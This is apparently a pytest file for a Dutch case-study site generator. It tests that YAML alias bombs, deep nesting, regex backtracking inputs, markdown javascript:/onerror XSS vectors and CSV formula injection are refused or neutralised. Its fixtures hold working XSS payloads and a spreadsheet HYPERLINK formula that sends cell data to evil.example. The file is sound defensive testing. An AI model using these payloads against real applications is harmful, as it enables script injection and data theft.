"""Hostile input is bounded in time and memory: YAML aliases and depth, linear patterns, safe CSV cells.

Each pattern that runs over content is run over pathological text (100 KB each) within a time
bound that a quadratic pattern misses by orders of magnitude (the old link pattern took 22 s on
40 KB of "[a"; linear ones take milliseconds). Inputs from issue 17 give a Dutch message or a
safe result, asserted word for word.
"""

from __future__ import annotations

import csv
import io
import re
import time
from collections.abc import Callable

import markdown
import pytest

from generator import export, glossary, load, safe_markdown
from generator.privacy import allowed, detectors, recall
from tests.kb_testing import CASUS, STELLING, VERSLAG, generate, messages, source

OTHERS = [source("stellingen/S01-a.yml", STELLING), source("verslagen/V01-a.yml", VERSLAG)]
SECONDS = 2.0
"""Per pattern and input, or per file through the whole pipeline: generous for a loaded machine."""


def timed(run: Callable[[], object]) -> float:
    start = time.perf_counter()
    run()
    return time.perf_counter() - start


def billion_laughs() -> str:
    text = 'id: C01\na: &a ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]\n'
    previous = "a"
    for name in "bcdefghi":
        text += f"{name}: &{name} [{', '.join([f'*{previous}'] * 9)}]\n"
        previous = name
    return text


ALIAS = ("casussen/C01-x.yml:{line}: hier staat een YAML-verwijzing (*naam) naar een anker (&naam); die zijn in de "
         "inhoud niet toegestaan.\n    tip: Schrijf de waarde voluit op deze plek en haal de & en * weg.")


def test_billion_laughs_is_refused_at_once() -> None:
    text = billion_laughs()
    assert len(text) < 500  # 9^9 strings once expanded
    seconds = timed(lambda: generate(source("casussen/C01-x.yml", text)))
    assert messages(generate(source("casussen/C01-x.yml", text))) == [ALIAS.format(line=3)]
    assert seconds < SECONDS


@pytest.mark.parametrize(("text", "line"), [
    ("id: C01\ntitel: &t Een titel\nsamenvatting: *t\n", 3),
    ("id: C01\nrollen: &r [bewoner]\nfasen: *r\n", 3),
    ("id: C01\nanonimisering: &a\n  toestemming: vastgelegd\nx:\n  <<: *a\n", 5),
    ("id: C01\nthemas:\n  - &m maatwerk\n  - *m\n", 2),  # in a list: the line of the list
])
def test_every_alias_is_refused(text: str, line: int) -> None:
    assert messages(generate(source("casussen/C01-x.yml", text))) == [ALIAS.format(line=line)]


def test_an_alias_without_anchor_has_a_dutch_message() -> None:
    assert messages(generate(source("casussen/C01-x.yml", "id: C01\ntitel: *nergens\n"))) == [
        "casussen/C01-x.yml:2: de YAML-opmaak klopt niet (een YAML-verwijzing (*naam) naar een anker dat niet "
        "bestaat).\n    tip: Controleer inspringing, dubbele punten en aanhalingstekens op deze regel en de regel "
        "erboven. Tekst met een dubbele punt zet je tussen aanhalingstekens."]


def test_lists_nested_twenty_thousand_deep_get_a_dutch_message() -> None:
    text = "id: C01\nx: " + "[" * 20_000 + "]" * 20_000 + "\n"
    assert messages(generate(source("casussen/C01-x.yml", text))) == [
        "casussen/C01-x.yml:2: de YAML-opmaak klopt niet (de blokken en lijsten zijn te diep in elkaar gezet).\n"
        "    tip: Controleer inspringing, dubbele punten en aanhalingstekens op deze regel en de regel erboven. "
        "Tekst met een dubbele punt zet je tussen aanhalingstekens."]


def test_nesting_beyond_the_schema_is_refused_before_the_walk() -> None:
    text = "id: C01\nx: " + "[" * 40 + "]" * 40 + "\n"
    assert messages(generate(source("casussen/C01-x.yml", text))) == [
        f"casussen/C01-x.yml:2: de blokken en lijsten zijn te diep in elkaar gezet (meer dan {load.MAX_DEPTH} "
        "niveaus).\n    tip: Controleer de inspringing; geen veld van de kennisbank is zo diep genest."]


# ---------------------------------------------------------------- linear patterns

HOSTILE = {
    "[a": "[a", "[a newline": "[a\n", "[a](": "[a](", "](": "](", "[a](b(": "[a](b(", "`": "`a", "<": "<a",
    "{": "{a", "&": "&a", "letters": "a", "dots": "a.", "digits": "1", "digit space": "1 ", "A-": "A-1",
    "initials": "A. ", "title": "Mr. A. ", "street": "Aastraat ", "dossier": "dossier ", "at": "a@", "word 1": "ab 1",
    "disguised at": "a (at) a.", "spaced at": "a  at  b dot ", "de enige": "de enige a ", "enige in": "enige in a ",
    "instagram": "instagram a.", "handle": "@a.", "court": "C/13/1", "zoon": "zoon A",
}
SIZE = 100_000

PATTERNS: dict[str, re.Pattern[str]] = {
    "safe_markdown.INLINE_LINK": safe_markdown.INLINE_LINK,
    "glossary.PROTECTED": glossary.PROTECTED,
    "load.TAB_INDENT": load.TAB_INDENT,
    **{f"privacy.detectors.{name}": getattr(detectors, name) for name in (
        "EMAIL", "EMAIL_DISGUISED", "BSN_LIKE", "IBAN_LIKE", "POSTCODE_LIKE", "POSTCODE_LOWER", "LICENCE_PLATE",
        "CASE_NUMBER", "TITLE_NAME",
        "INITIALS_NAME", "NOT_INITIALS", "STREET_NUMBER", "NUMERIC_DATE", "ISO_DATE", "NAMED_DATE",
        "BIRTH_BEFORE", "_WORD")},
    "privacy.allowed._PLACE_PHRASES": allowed._PLACE_PHRASES,
    **{f"privacy.recall.{name}": getattr(recall, name) for name in (
        "KIN_NAME", "NAME_WORD", "HANDLE_AT", "HANDLE_AFTER_PLATFORM", "HANDLE_URL", "COURT_NUMBER",
        "FURTHER_NUMBER", "SENTENCE_END", "SINGLED_OUT", "NOT_SINGLING_OUT")},
}
"""Every pattern that runs over a whole text. Not here: patterns that only see a short piece already cut
out (privacy.detectors.STREET_NUMBER_LOOSE sees one location deduce found, resolve.OLD_ADDRESS one address, with
fullmatch) and the glossary's alternation of literal terms (linear by construction)."""


@pytest.mark.parametrize("name", sorted(PATTERNS))
def test_every_pattern_over_content_is_linear(name: str) -> None:
    pattern = PATTERNS[name]
    slow = {}
    for label, unit in HOSTILE.items():
        text = unit * (SIZE // len(unit))
        seconds = timed(lambda text=text: sum(1 for _ in pattern.finditer(text)))  # type: ignore[misc]
        if seconds > SECONDS:
            slow[label] = round(seconds, 1)
    assert not slow, f"{name} is not linear on: {slow}"


def test_two_hundred_kilobytes_of_brackets_render_within_the_budget() -> None:
    text = "[a" * 100_000
    seconds = timed(lambda: safe_markdown.safe_markdown(text))
    assert seconds < SECONDS
    casus = source("casussen/C01-x.yml", CASUS.replace("De vertrouwenspersoon begeleidt de moeder.", text))
    start = time.perf_counter()
    generated = generate(casus, *OTHERS)
    assert messages(generated) == []
    assert time.perf_counter() - start < 3 * SECONDS
    assert "&#91;a&#91;a" in generated.pages["casussen/c01.md"]


def html(text: str) -> str:
    return str(markdown.markdown(safe_markdown.safe_markdown(text),
                                 extensions=["toc", "tables", "admonition", "attr_list", "md_in_html", "abbr"]))


@pytest.mark.parametrize("text", [
    "[x[y](https://example.org)](javascript:alert(1))",
    "[x[y](javascript:z)](javascript:alert(1))",
    "[a [b]](javascript:alert(2))",
    "\\[a \\[b\\] c\\](javascript:alert(3))",
    "[a\\](https://example.org) [b](javascript:alert(4))",
    "[a](https://example.org/[b](javascript:alert(5)))",
    "[r]\n\n[r]: javascript:alert(6)",
    "*[HTML]: <img src=x onerror=alert(7)>\nHTML",
    "![x[y](https://example.org)](https://evil.example/p.png)",
])
def test_brackets_around_an_accepted_link_never_make_another_link(text: str) -> None:
    """Found while making the link pattern linear: a link whose label held an accepted link
    took the destination after it, javascript: included."""
    out = html(text)
    assert not re.search(r'(href|src)="(?!https://example\.org)', out), out
    assert "<img" not in out and "<abbr" not in out, out


def test_safe_links_stay_links() -> None:
    assert html("[VU](https://vu.nl) en [S05](#bespreekvragen), (zie [dit](mailto:a@example.org))") == (
        '<p><a href="https://vu.nl">VU</a> en <a href="#bespreekvragen">S05</a>, (zie '
        '<a href="mailto:a@example.org">dit</a>)</p>')
    assert html("[a] en [b] blijven haken") == "<p>&#91;a&#93; en &#91;b&#93; blijven haken</p>"  # shown as [a]


# ---------------------------------------------------------------- exports


def test_csv_cells_that_a_spreadsheet_would_evaluate_are_neutralised() -> None:
    title = '=HYPERLINK("https://evil.example/?"&A1;"klik")'
    casus = source("casussen/C01-x.yml", CASUS.replace("titel: Een moeder tussen de regels", f"titel: '{title}'"))
    generated = generate(casus, *OTHERS)
    assert messages(generated) == []
    rows = list(csv.DictReader(io.StringIO(generated.pages["data/casussen.csv"])))
    assert rows[0]["titel"] == "'" + title
    assert [export.neutralise_cell(c) for c in ("=1+1", "+31", "-2", "@SUM(A1)", "\tx", "\rx", "gewoon", "")] == [
        "'=1+1", "'+31", "'-2", "'@SUM(A1)", "'\tx", "'\rx", "gewoon", ""]
